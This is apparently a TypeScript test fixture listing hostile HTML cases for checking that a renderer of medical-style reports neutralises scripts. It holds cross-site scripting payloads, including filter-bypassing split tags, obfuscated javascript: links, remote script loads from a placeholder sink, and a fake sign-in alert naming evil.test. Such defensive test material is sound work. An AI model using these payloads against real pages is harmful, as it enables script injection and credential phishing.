import { ofClass } from '../hostile-case.ts';

/** Code that the document brings, in elements and in addresses. */
export const script = ofClass('script', [
  {
    id: 'script-inline',
    title: 'an inline script between two results',
    html: '<p>Sodium 139</p><script>{{pwn}}</script><p>Potassium 4.1</p>',
    harmless: 'Potassium 4.1',
    control: { harm: 'script' },
  },
  {
    id: 'script-remote',
    title: 'a script of another server',
    html: '<script src="{{sink}}/a.js"></script><p>Chest clear.</p>',
    harmless: 'Chest clear.',
    control: { harm: 'script' },
  },
  {
    id: 'script-module',
    title: 'a module with an import map',
    html: '<script type="importmap">{"imports":{"x":"{{sink}}/m.js"}}</script><script type="module">import "{{sink}}/m.js"</script><p>Heart size normal.</p>',
    harmless: 'Heart size normal.',
    control: { harm: 'request' },
  },
  {
    id: 'script-split-tag',
    title: 'a script inside a script tag that a filter would cut out',
    html: '<scr<script>ipt>{{pwn}}</scr</script><script>{{pwn}}</script >ipt><p>Reviewed.</p>',
    harmless: 'Reviewed.',
    control: { harm: 'script' },
  },
  {
    id: 'script-link-javascript',
    title: 'a link to code',
    html: '<p>Read:</p><a href="javascript:{{pwn}}">Full report</a>',
    harmless: 'Full report',
    act: [{ click: 'Full report' }],
    control: { harm: 'script' },
  },
  {
    id: 'script-link-tabs',
    title: 'a link to code with tabs, line ends and entities in its scheme',
    html: '<a href=" &#1;java&#9;scr&#10;ipt&colon;{{pwn}}">Open result</a>',
    harmless: 'Open result',
    act: [{ click: 'Open result' }],
    control: { harm: 'script' },
  },
  {
    id: 'script-link-data',
    title: 'a link to a page in its own address',
    html: '<a href="data:text/html,<script>{{pwn}}</script>">Enclosure</a>',
    harmless: 'Enclosure',
    act: [{ click: 'Enclosure' }],
    control: { immune: 'Chromium opens no data: page from a link; it says so on the console.' },
  },
  {
    id: 'script-form-javascript',
    title: 'a button that sends a form to code',
    html: '<p>Consent</p><form><button formaction="javascript:{{pwn}}">Agree</button></form>',
    harmless: 'Consent',
    act: [{ click: 'Agree' }],
    control: { harm: 'script' },
  },
  {
    id: 'script-alert',
    title: 'a dialog in the name of the page',
    html: '<p>Allergies: none known</p><script>alert("Session over: sign in at evil.test")</script>',
    harmless: 'Allergies: none known',
    control: { harm: 'script' },
  },
]);
